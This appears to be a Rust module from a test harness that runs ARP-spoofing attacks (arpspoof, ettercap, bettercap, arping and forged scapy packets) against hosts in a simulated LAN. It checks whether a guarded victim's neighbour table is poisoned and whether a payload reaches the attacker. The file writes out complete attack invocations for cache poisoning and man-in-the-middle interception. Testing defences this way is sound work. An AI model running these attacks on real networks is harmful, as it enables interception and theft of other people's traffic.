//! Attacks 1 to 7, 10 and 14: the victim is made to believe that an honest host's address is at the attacker's.
//!
//! All aim at the same two things: the victim's neighbour table, and a payload that thereby comes to the attacker.

use std::net::Ipv4Addr;
use std::time::Duration;

use wire::MacAddress;

use crate::attack::scene::{Finding, Scene, count};
use crate::failure::Failure;
use crate::net::lan::INTERFACE;
use crate::net::talk::Mailbox;
use crate::net::{Frame, Host, Running, process};

pub(super) const ARP_PROGRAM: &str = include_str!("arp.py");
const RACE_PROGRAM: &str = include_str!("race.py");
/// How long a poisoning may take. arpspoof repeats itself every 2 s, and the kernel refuses changes of an entry that is
/// younger than 1 s.
const POISON_LIMIT: Duration = Duration::from_millis(4000);
/// An address of the LAN that no host has.
const NOBODY: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 200);
/// Ports between which the payload goes.
const PORT: u16 = 9001;

/// An ARP message for the scapy program.
pub(super) struct Lie<'a> {
    pub(super) ethernet_source: MacAddress,
    pub(super) ethernet_destination: MacAddress,
    pub(super) operation: &'a str,
    pub(super) sender: (&'a Host, MacAddress),
    pub(super) target: (&'a Host, MacAddress),
}

impl Lie<'_> {
    pub(super) fn arguments(&self, times: u32) -> Vec<String> {
        let addresses = [self.ethernet_source, self.ethernet_destination].map(|mac| mac.to_string());
        let ((sender, sender_mac), (target, target_mac)) = (self.sender, self.target);
        let mut arguments = vec![INTERFACE.to_owned()];
        arguments.extend(addresses);
        arguments.push(self.operation.to_owned());
        arguments.extend([sender_mac.to_string(), sender.ip.to_string()]);
        arguments.extend([target_mac.to_string(), target.ip.to_string()]);
        arguments.extend([times.to_string(), "0.4".to_owned()]);
        arguments
    }
}

/// Attack 1: arpspoof tells a that b is here.
pub fn unsolicited_reply(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    // arpspoof sends nothing before it knows its target, which a listener on the LAN does.
    m.pin_neighbour(&a)?;
    m.pin_neighbour(&b)?;
    let arguments = ["-i", INTERFACE, "-t", &a.ip.to_string(), &b.ip.to_string()].map(str::to_owned);
    poison(scene, &b, || scene.launch(&m, "arpspoof", &arguments).map(Some))
}

/// Attack 2: ettercap puts itself between a and b.
pub fn man_in_the_middle(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    // Guarded hosts answer no scan, so the attacker gets the list of hosts that a listener could have written.
    let hosts = scene.file("hosts");
    let list = format!("{} {} -\n{} {} -\n", a.ip, a.mac, b.ip, b.mac);
    std::fs::write(&hosts, list).map_err(Failure::file("writing", &hosts))?;
    let targets = [format!("/{}//", a.ip), format!("/{}//", b.ip)];
    let hosts = hosts.to_string_lossy().into_owned();
    let options = ["-T", "-q", "-z", "-j", &hosts, "-i", INTERFACE, "-M", "arp:remote"].map(str::to_owned);
    let arguments: Vec<String> = options.into_iter().chain(targets).collect();
    let both = || scene.launch(&m, "ettercap", &arguments).map(Some);
    let mut finding = poison(scene, &b, both)?;
    let other_way = b.neighbour(a.ip)?.is_some_and(|entry| entry.mac == m.mac);
    finding.reached &= other_way;
    finding.harmless &= !other_way;
    finding.said =
        format!("{}, b {} the same of a", finding.said, if other_way { "believes" } else { "does not believe" });
    Ok(finding)
}

/// Attack 3: bettercap finds the hosts by itself and puts itself between a and b.
pub fn discovery_and_poisoning(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    let orders = format!(
        "net.probe on; sleep 1; set arp.spoof.targets {}; set arp.spoof.internal true; arp.spoof on; sleep 30",
        a.ip
    );
    let gateway = b.ip.to_string();
    let arguments = ["-iface", INTERFACE, "-gateway-override", &gateway, "-no-history", "-eval", &orders];
    // Without the addresses that a listener has, it gives up on hosts that answer no scan.
    m.pin_neighbour(&a)?;
    m.pin_neighbour(&b)?;
    poison(scene, &b, || scene.launch(&m, "bettercap", &arguments.map(str::to_owned)).map(Some))
}

/// Attack 4: a request in c's name makes a learn c's address, although a never asked.
pub fn spoofed_request(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, c, m) = (scene.host("a")?, scene.host("c")?, scene.host("m")?);
    let lie = Lie {
        ethernet_source: m.mac,
        ethernet_destination: a.mac,
        operation: "who-has",
        sender: (&c, m.mac),
        target: (&a, MacAddress::ZERO),
    };
    poison(scene, &c, || scene.scapy(&m, ARP_PROGRAM, &lie.arguments(3)).map(|()| None))
}

/// Attack 7: the attacker takes b's address and announces it to all.
pub fn gratuitous_takeover(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (b, m) = (scene.host("b")?, scene.host("m")?);
    m.namespace.ip(&format!("address add {}/32 dev {INTERFACE}", b.ip))?;
    let ip = b.ip.to_string();
    let arguments = ["-U", "-I", INTERFACE, "-s", &ip, &ip].map(str::to_owned);
    poison(scene, &b, || scene.launch(&m, "arping", &arguments).map(Some))
}

/// Attack 10: a reply whose Ethernet source is nobody's, which hides the attacker from who looks at frames only.
pub fn other_ethernet_source(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    let nobody = MacAddress([2, 0, 0, 0x77, 0, 0x99]);
    let lie = Lie {
        ethernet_source: nobody,
        ethernet_destination: a.mac,
        operation: "is-at",
        sender: (&b, m.mac),
        target: (&a, a.mac),
    };
    poison(scene, &b, || scene.scapy(&m, ARP_PROGRAM, &lie.arguments(5)).map(|()| None))
}

/// Attack 5: an echo request in c's name makes a ask for c, and the attacker answers first and often.
pub fn triggered_race(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, c, m) = (scene.host("a")?, scene.host("c")?, scene.host("m")?);
    poison(scene, &c, || scene.scapy(&m, RACE_PROGRAM, &race(&m, &a, &c, &["trigger"])).map(|()| None))
}

/// Attack 6: a asks for b by itself, and the attacker answers first and often.
pub fn race_for_the_answer(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    poison(scene, &b, || {
        a.namespace.ip(&format!("neigh flush dev {INTERFACE}"))?;
        scene.scapy(&m, RACE_PROGRAM, &race(&m, &a, &b, &[])).map(|()| None)
    })
}

fn race(attacker: &Host, victim: &Host, claimed: &Host, more: &[&str]) -> Vec<String> {
    let (own, to) = (attacker.mac.to_string(), victim.mac.to_string());
    let (victim, claimed) = (victim.ip.to_string(), claimed.ip.to_string());
    [INTERFACE, &own, &to, &victim, &claimed, "2.5"].iter().chain(more).map(|&word| word.to_owned()).collect()
}

/// Attack 14: the attacker answers for an address that nobody on the LAN has, as a proxy for somebody behind a router would.
pub fn proxy_hijack(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, m) = (scene.host("a")?, scene.host("m")?);
    let nobody = Host { name: "nobody", ip: NOBODY, mac: m.mac, namespace: m.namespace.clone() };
    let outbox = Mailbox::open(&a, PORT)?;
    let token = scene.token("payload");
    let window = scene.open()?;
    let tool = scene.launch_scapy(&m, RACE_PROGRAM, &race(&m, &a, &nobody, &[]))?;
    let poisoned = process::within(POISON_LIMIT, || {
        outbox.send(&nobody, PORT, &token);
        Ok(a.neighbour(NOBODY)?.is_some_and(|entry| entry.mac == m.mac))
    })?;
    outbox.send(&nobody, PORT, &token);
    process::pause(Duration::from_millis(200))?;
    drop(tool);
    let record = scene.close(window)?;
    let lies = |frame: &Frame| frame.claims(NOBODY, m.mac);
    let stolen = count(&record.loot, |frame| frame.contains(&token)) > 0;
    Ok(Finding {
        reached: poisoned && stolen,
        harmless: !poisoned && !stolen && count(&record.inside, lies) == 0,
        struck: count(&record.wire, lies),
        said: if stolen { "a's payload for somebody beyond the LAN is at m" } else { "no payload at m" }.to_owned(),
        record,
    })
}

/// Lets `attack` run until a believes that `claimed` is at the attacker, or long enough, and sends a payload from a to
/// `claimed` to see where it goes.
pub(super) fn poison(
    scene: &Scene<'_>,
    claimed: &Host,
    attack: impl FnOnce() -> Result<Option<Running>, Failure>,
) -> Result<Finding, Failure> {
    let (a, m) = (scene.host("a")?, scene.host("m")?);
    let (outbox, inbox) = (Mailbox::open(&a, PORT)?, Mailbox::open(claimed, PORT)?);
    let token = scene.token("payload");
    let window = scene.open()?;
    let tool = attack()?;
    let believes = || Ok(a.neighbour(claimed.ip)?.is_some_and(|entry| entry.mac == m.mac));
    let poisoned = process::within(POISON_LIMIT, believes)?;
    outbox.send(claimed, PORT, &token);
    process::pause(Duration::from_millis(200))?;
    // Asked politely, these tools repair what they did; they are killed as soon as the damage has been seen.
    drop(tool);
    let record = scene.close(window)?;
    let lies = |frame: &Frame| frame.claims(claimed.ip, m.mac);
    let stolen = count(&record.loot, |frame| frame.contains(&token)) > 0;
    let arrived = !inbox.take()?.is_empty();
    let name = claimed.name;
    let belief = if poisoned { format!("a believes {name} at m") } else { format!("a's entry for {name} untouched") };
    let fate = if stolen { "payload at m" } else { "payload not at m" };
    Ok(Finding {
        reached: poisoned && stolen,
        harmless: !poisoned && !stolen && arrived && count(&record.inside, lies) == 0,
        struck: count(&record.wire, lies),
        said: format!("{belief}, {fate}"),
        record,
    })
}
